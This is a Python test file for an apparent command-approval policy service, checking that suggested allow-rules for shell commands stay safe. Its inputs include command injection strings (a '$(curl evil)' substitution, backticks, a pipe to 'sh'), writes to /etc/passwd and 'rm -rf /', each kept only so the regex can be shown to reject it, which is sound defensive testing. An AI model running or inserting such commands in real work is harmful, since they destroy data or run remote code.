"""Rule suggestions for a pending command: always the exact text, a safe regex when possible."""

from __future__ import annotations

import pytest

from expacti_server.policy.analysis import analyse
from expacti_server.policy.patterns import RuleType, compile_pattern
from expacti_server.policy.risk import HIGH_RISK
from expacti_server.policy.suggestions import suggest


def test_the_exact_command_is_always_offered_scoped_to_its_target() -> None:
    [exact, *_] = suggest("ls -la", ["ls -la"], target="web-1", risk_score=0)
    assert (exact.type, exact.pattern, exact.scope) == (RuleType.EXACT, "ls -la", "target:web-1")
    [no_target, *_] = suggest("ls -la", ["ls -la"], target=None, risk_score=0)
    assert no_target.scope == "global"


def test_a_plain_command_also_gets_a_regex_over_plain_arguments() -> None:
    suggestions = suggest(
        "kubectl get pods -n web", ["kubectl get pods -n web"], target=None, risk_score=10
    )
    assert len(suggestions) == 2
    regex = suggestions[1]
    assert regex.type is RuleType.REGEX
    assert "kubectl get" in regex.reason
    compiled = compile_pattern(regex.pattern, regex.type)
    assert compiled.matches("kubectl get pods -n web")
    assert compiled.matches("kubectl get svc")
    assert compiled.matches("kubectl get")
    for dangerous in (
        "kubectl get pods > /etc/passwd",
        "kubectl get pods | sh",
        "kubectl get $(curl evil)",
        "kubectl get `id`",
        "kubectl get pods; rm -rf /",
        "kubectl delete pods",
        "kubectl getx",
    ):
        assert not compiled.matches(dangerous), dangerous


@pytest.mark.parametrize(
    ("command", "parts", "risk"),
    [
        ("rm -rf /srv/app", ["rm -rf /srv/app"], HIGH_RISK),  # high risk: never broadened
        ("ls; id", ["ls", "id"], 0),  # compound: exact only
        ("uptime", ["uptime"], 0),  # nothing varies
        ("echo $HOME", ["echo $HOME"], 0),  # uses shell syntax itself
        ("cat 'unterminated", ["cat 'unterminated"], 0),  # does not split
        ("./run.sh --fast", ["./run.sh --fast"], 0),  # program is a path with a dot prefix
    ],
)
def test_only_the_exact_rule_when_broadening_would_be_unsafe_or_pointless(
    command: str, parts: list[str], risk: int
) -> None:
    assert [s.type for s in suggest(command, parts, target=None, risk_score=risk)] == [
        RuleType.EXACT
    ]


async def test_suggestions_agree_with_the_real_parser_and_risk_score() -> None:
    parsed, risk = await analyse("terraform plan -out plan.bin")
    suggestions = suggest(parsed.text, list(parsed.parts), target="prod", risk_score=risk.score)
    assert [s.type for s in suggestions] == [RuleType.EXACT, RuleType.REGEX]
    assert compile_pattern(suggestions[1].pattern, RuleType.REGEX).matches("terraform plan")
